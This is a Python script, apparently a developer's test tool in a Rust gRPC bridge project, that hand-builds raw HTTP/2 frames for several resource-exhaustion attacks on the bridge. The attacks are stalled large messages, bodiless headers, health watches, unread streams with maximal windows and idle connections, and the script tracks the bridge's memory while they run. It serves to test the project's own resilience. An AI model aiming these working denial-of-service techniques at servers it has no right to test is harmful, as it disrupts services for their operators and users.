#!/usr/bin/env python3
"""Attacks a bridge over raw HTTP/2, and shows what it costs: for a developer's hand, no test. Python's standard library is enough.

    cargo run --release -- demo                                  # in another terminal
    tests/attack.py messages --pid "$(pgrep -n alim-bridge)"

  messages   heads with 4 MiB announced, of which the last 100 bytes never come (the windows let in 64 KiB each)
  heads      heads without a message
  watches    health watches
  unread     streams that nobody reads, with the largest windows
  silent     connections that say nothing
"""

import argparse
import socket
import struct
import time
from pathlib import Path

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, SETTINGS, WINDOW_UPDATE = 0, 1, 4, 8
END_STREAM, END_HEADERS = 1, 4
LARGEST = 2**31 - 1
INVOKE, STREAM = "/alim.v1.GraphService/Invoke", "/alim.v1.GraphService/Stream"
WATCH = "/grpc.health.v1.Health/Watch"
QUESTION = b"\0" + struct.pack(">I", 12) + b"\x0a\x05Salam\x12\x03u-1"


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def head(stream: int, path: str, flags: int = END_HEADERS) -> bytes:
    fields = {":method": "POST", ":scheme": "http", ":path": path, ":authority": "bridge",
              "content-type": "application/grpc", "te": "trailers"}
    block = b"".join(b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
                     for name, value in fields.items())
    return frame(HEADERS, flags, stream, block)


def one(kind: str, stream: int) -> bytes:
    """The frames of one call of an attack."""
    if kind == "messages":
        return head(stream, INVOKE) + frame(DATA, 0, stream, b"\0" + struct.pack(">I", 4 << 20) + bytes(16_000))
    if kind == "heads":
        return head(stream, INVOKE)
    if kind == "watches":
        return head(stream, WATCH) + frame(DATA, END_STREAM, stream, bytes(5))
    return head(stream, STREAM) + frame(DATA, END_STREAM, stream, QUESTION)


def connect(address: tuple[str, int], kind: str, streams: int) -> socket.socket:
    connection = socket.create_connection(address)
    if kind == "silent":
        return connection
    windows = struct.pack(">HI", 4, LARGEST) if kind == "unread" else b""
    calls = b"".join(one(kind, 2 * count + 1) for count in range(streams))
    more = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", LARGEST - 65_535)) if kind == "unread" else b""
    connection.settimeout(2)
    try:
        connection.sendall(PREFACE + frame(SETTINGS, 0, 0, windows) + more + calls)
    except (TimeoutError, ConnectionError) as error:
        print(f"not all was taken: {error!r}")
    return connection


def resident(pid: int) -> str:
    """proc(5), VmRSS."""
    lines = Path(f"/proc/{pid}/status").read_text().splitlines()
    return next(line for line in lines if line.startswith("VmRSS")).split(None, 1)[1]


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("kind", choices=["messages", "heads", "watches", "unread", "silent"])
    parser.add_argument("--port", type=int, default=50051)
    parser.add_argument("--pid", type=int, required=True, help="the bridge's process")
    parser.add_argument("--connections", type=int, default=2)
    parser.add_argument("--streams", type=int, default=100, help="of each connection")
    parser.add_argument("--seconds", type=int, default=15)
    asked = parser.parse_args()
    print(f"before: {resident(asked.pid)}")
    open_ = [connect(("127.0.0.1", asked.port), asked.kind, asked.streams) for _ in range(asked.connections)]
    for second in range(asked.seconds):
        time.sleep(1)
        print(f"{second + 1:3d} s: {resident(asked.pid)}", flush=True)
    for connection in open_:
        connection.close()
    time.sleep(2)
    print(f"after: {resident(asked.pid)}")


if __name__ == "__main__":
    main()
